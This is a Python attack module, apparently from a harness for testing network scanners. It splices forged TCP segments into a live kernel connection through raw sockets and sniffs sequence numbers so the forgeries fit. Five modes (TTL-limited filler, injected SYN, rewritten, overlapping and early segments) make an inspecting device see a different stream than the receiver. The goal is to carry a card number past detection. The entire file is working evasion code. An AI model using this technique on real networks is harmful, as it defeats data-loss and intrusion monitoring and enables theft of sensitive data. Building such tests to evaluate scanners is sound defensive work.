"""A connection of the kernel's, with forged segments into it from a raw socket.

`way`: `ttl` (filler that dies at the first router, so that a scanner takes it for the stream),
`syn` (a SYN, so that it forgets the stream), `rewritten` (the first half again with other
bytes), `overlap` (other bytes before the second half), `ahead` (the second half, before the
kernel sends the first).
"""

from __future__ import annotations

import socket
import struct
import time

from attacks.frames import ACK, PSH, SYN, Segment, ip4
from attacks.target import Target, refused

ETH_P_ALL = 3
TCP = socket.IPPROTO_TCP
FILLER = b"the goods have left the harbour with a delay of some days as the port reported. " * 3
PAUSE = 0.06


class Numbers:
    """The next sequence number and acknowledgement of a connection, as seen on its device."""

    def __init__(self, device: str) -> None:
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
        self._socket.bind((device, ETH_P_ALL))
        self._socket.settimeout(0.05)

    def of(self, port: int) -> tuple[int, int]:
        """After the last segment from a source port (IPv4)."""
        found = (0, 0)
        while True:
            try:
                packet = self._socket.recv(65_536)
            except TimeoutError:
                return found
            segment = packet[(packet[0] & 0xF) * 4 :]
            if packet[0] >> 4 != 4 or packet[9] != TCP:  # noqa: PLR2004 - IP version
                continue
            source, _, seq, ack = struct.unpack_from("!HHII", segment)
            if source == port:
                length = struct.unpack_from("!H", packet, 2)[0] - (packet[0] & 0xF) * 4
                data = length - (segment[12] >> 4) * 4 + bool(segment[13] & SYN)
                found = (seq + data, ack)


def main(target: Target) -> None:
    """Send the first half by the kernel, forge, send the rest."""
    head, value = b"order 17, card ", target.secret
    data = head + value + b", thanks\n"
    half = len(head) + len(value) // 2
    way = target.args["way"]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    numbers = Numbers(target.device)
    with raw, target.tcp() as out:
        port = out.getsockname()[1]
        sent = 0 if way == "ahead" else half
        if sent:
            out.sendall(data[:sent])
        seq, ack = numbers.of(port)

        def forge(at: int, payload: bytes, flags: int = PSH | ACK, ttl: int = 64) -> None:
            made = Segment(
                source_port=port,
                port=target.port,
                seq=seq + at - sent,
                ack=ack,
                flags=flags,
                payload=payload,
            )
            packed = made.packed(target.source, target.address)
            packet = ip4(target.source, target.address, TCP, packed, ttl=ttl)
            with refused():
                raw.sendto(packet, (target.address, 0))
            time.sleep(PAUSE)

        match way:
            case "ttl":
                forge(half, FILLER, ttl=1)
            case "syn":
                forge(half - 1, b"", flags=SYN)
            case "rewritten":
                forge(0, FILLER[:half])
            case "overlap":
                forge(half - 4, b"...." + data[half:])
            case "ahead":
                forge(half, data[half:])
        with refused():
            out.sendall(data[:half] if way == "ahead" else data[half:])
            time.sleep(0.4)
